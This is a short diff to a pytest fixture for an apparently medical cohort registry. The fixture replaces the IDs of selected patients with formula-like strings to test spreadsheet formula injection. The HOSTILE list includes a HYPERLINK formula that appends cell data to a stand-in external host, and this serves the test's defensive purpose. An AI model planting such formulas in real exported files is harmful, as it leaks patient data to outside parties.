@@ -149,9 +149,11 @@ HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"open")', "+SUM(1,2)", "-1+1", 
 
 @pytest.fixture(scope="module")
 def hostile_fingerprint():
-    """The bundled cohort with the first five patient IDs made formula-like."""
+    """The bundled cohort with the IDs of the first five compared patients (the default
+    view leaves out other calcification) made formula-like."""
     raw = pd.read_csv(BUNDLED_COHORT, dtype={"patient_id": str})
-    raw.loc[:len(HOSTILE) - 1, "patient_id"] = HOSTILE
+    compared = raw.index[raw["calcification"].isin(["none", "spotty"])][:len(HOSTILE)]
+    raw.loc[compared, "patient_id"] = HOSTILE
     return registry.register(load_dataset(raw, simulated=True))
 
 
